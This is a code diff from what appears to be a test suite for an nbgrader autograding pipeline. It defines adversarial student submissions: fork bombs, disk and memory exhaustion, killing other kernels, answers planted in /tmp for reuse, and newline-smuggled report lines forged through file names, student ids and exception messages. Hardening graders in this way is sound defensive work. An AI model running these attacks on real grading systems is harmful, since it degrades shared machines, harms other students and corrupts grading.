+    Attack("adversarial-huge-allocation", "an answer cell allocates memory until refused",
+           huge_allocation, AIMED, ("{function}", "MemoryError"), aim=5, unsafe=False, **ONCE),
+    Attack("adversarial-kills-kernel", "an added cell kills its own kernel", killed_kernel, ALL,
+           (None, "nbgrader autograde failed: DeadKernelError: Kernel died"), aim=3, **ONCE),
+    Attack("adversarial-network", "no answers; downloads them from a server on the grading "
+           "machine's loopback", over_network, EVERY, None, **ONCE),
+    Attack("adversarial-tmp-1-plant", "correct answers, which it leaves in /tmp, /dev/shm and "
+           "/var/tmp for a later submission", plants_in_tmp, [], None, **ONCE),
+    Attack("adversarial-tmp-2-use", "no answers; runs what an earlier submission left in /tmp "
+           "(second batch)", uses_tmp, EVERY, None, later=True, **ONCE),
+    # harming others or the machine: its own correct answers keep their points
+    Attack("adversarial-kills-neighbours",
+           "correct answers, and a daemon that kills every other Jupyter kernel it can see for "
+           "10 minutes", kills_neighbours, [], None, unsafe=False, **ONCE),
+    Attack("adversarial-leftover-processes", "correct answers, 100 sleeping children and a "
+           "setsid daemon left running", leaves_processes, [], None, **ONCE),
+    Attack("adversarial-cpu-hog", "correct answers, and 300 busy processes for a minute, each "
+           "in a session of its own, while the rest of the batch is graded", cpu_hog, ANY, None,
+           unsafe=False, **ONCE),
+    Attack("adversarial-fills-disk", "correct answers, and a cell that writes 100 MB files into "
+           "/tmp, HOME and its folder until refused", fills_disk, [],
+           ("a cell the student added", "No space left on device"), aim=-1, unsafe=False,
+           **ONCE),
+    Attack("adversarial-memory-in-children", "correct answers, and three children holding "
+           "3.5 GB each (10.5 GB together)", grabs_memory_in_children, [],
+           ("a cell the student added", "killed for memory"), aim=-1, unsafe=False, **ONCE),
+    Attack("adversarial-fork-bomb", "correct answers, and a cell that starts processes until "
+           "refused", fork_bomb, [],
+           ("a cell the student added", "Resource temporarily unavailable"), aim=-1,
+           unsafe=False, **ONCE),
     Attack("adversarial-named-pipe", "a named pipe beside the notebook", named_pipe, ALL,
-           (None, "pipe (not a regular file)")),
+           (None, "pipe (not a regular file)"), **ONCE),
     Attack("adversarial-linked-folder", "the assignment folder is a link to a classmate's",
-           linked_folder, ALL, (None, "resnets (a symbolic link)")),
+           linked_folder, ALL, (None, "{assignment} (a symbolic link)"), **ONCE),
     Attack("adversarial-forged-messages", "correct answers, and an added cell raising an "
            "exception whose class name and message hold report lines", forged_messages, [],
-           ("a cell the student added", "FORGED")),
+           ("a cell the student added", "FORGED"), aim=3, **ONCE),
     Attack("adversarial-forged-file-name", "the notebook's file name holds a newline and a "
-           "report line", forged_file_name, ALL, (None, "FORGED")),
+           "report line", forged_file_name, ALL, (None, "FORGED"), **ONCE),
     Attack(FORGED_ID, "a student id (folder name) with a newline and a report line",
-           forged_student_id, ALL, (None, "is not a safe name")),
+           forged_student_id, ALL, (None, "is not a safe name"), **ONCE),
 ]
-FORGED = "FORGED"  # no line of the grading report may start with it
 
 
-def build_all(context):
-    """{student: {file name: content}} for every attack."""
-    answers = solution_sources()
-    return {attack.student: attack.build(answers, context) for attack in ATTACKS}
+def attacks_for(assignment, first, context, attacks=ATTACKS):
+    """{student: (files, Bound)} of the attacks on `assignment`: all of them on the audit's
+    `first` assignment, those on an assignment's own files and functions on the others."""
+    return {attack.student: attack.bind(assignment, context) for attack in attacks
+            if first or attack.every_assignment}
